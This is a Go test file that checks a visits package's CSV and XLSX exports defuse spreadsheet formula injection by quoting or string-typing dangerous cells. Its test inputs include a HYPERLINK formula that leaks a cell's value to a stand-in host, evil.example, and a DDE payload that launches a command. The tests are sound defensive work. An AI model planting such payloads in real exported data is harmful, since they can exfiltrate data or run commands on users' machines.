package visits

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

const formulaName = `=HYPERLINK("http://evil.example/?x="&A1,"点我")`

func TestCSVCell(t *testing.T) {
	for in, want := range map[string]string{
		formulaName:          "'" + formulaName,
		"+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
		"-2+3":               "'-2+3",
		"@SUM(A1:A2)":        "'@SUM(A1:A2)",
		"\t=1+1":             "'\t=1+1",
		"\r=1+1":             "'\r=1+1",
		"甲公司":                "甲公司",
		"-2":                 "-2",
		"+3":                 "+3",
		"+12.5%":             "+12.5%",
		"-":                  "-",
		"":                   "",
		"-.5":                "'-.5",
		"a=b":                "a=b",
	} {
		if got := CSVCell(in); got != want {
			t.Errorf("CSVCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestExportDefusesFormulas: a name that is a formula goes into the CSV
// export with a leading ' (before: as is) and into the xlsx as a string.
func TestExportDefusesFormulas(t *testing.T) {
	ds := Dataset{Enterprises: []Enterprise{{Meta: Meta{ID: "e1"}, Name: formulaName, USCC: "91350100M000100Y43", Street: "@x"}}}
	var buf bytes.Buffer
	if err := ExportCSV(&buf, ds, TypeEnterprise); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, c := range recs[1] {
		if c == formulaName || strings.HasPrefix(c, "@") {
			t.Errorf("formula cell exported as is: %q", c)
		}
		found = found || c == "'"+formulaName
	}
	if !found {
		t.Errorf("defused name not found in %q", recs[1])
	}

	buf.Reset()
	if err := ExportXLSX(&buf, ds); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, _ := f.GetRows(TypeEnterprise)
	for j, c := range rows[1] {
		cell, _ := excelize.CoordinatesToCellName(j+1, 2)
		if formula, _ := f.GetCellFormula(TypeEnterprise, cell); formula != "" {
			t.Errorf("%s holds formula %q", cell, formula)
		}
		if c == formulaName {
			if typ, _ := f.GetCellType(TypeEnterprise, cell); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
				t.Errorf("%s: type %v, want a string", cell, typ)
			}
			found = false
		}
	}
	if found {
		t.Error("the name is not kept as a string in the xlsx")
	}
}

// TestReportCSVDefusesFormulas: the weekly report's CSV, meant for Excel,
// defuses names and next steps that came from any laptop.
func TestReportCSVDefusesFormulas(t *testing.T) {
	r := Report{District: "+区", Rows: []PipelineRow{{Name: formulaName, USCC: "91350100M000100Y43"}}}
	var buf bytes.Buffer
	if err := RenderCSV(&buf, r, ZH); err != nil {
		t.Fatal(err)
	}
	cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff")))
	cr.FieldsPerRecord = -1
	recs, err := cr.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := false
	for _, rec := range recs {
		for _, c := range rec {
			if len(c) > 1 && strings.ContainsRune("=+@", rune(c[0])) && !plainNumber(c) {
				t.Errorf("formula-like cell %q", c)
			}
			seen = seen || c == "'"+formulaName
		}
	}
	if !seen {
		t.Errorf("defused name missing:\n%s", buf.String())
	}
}
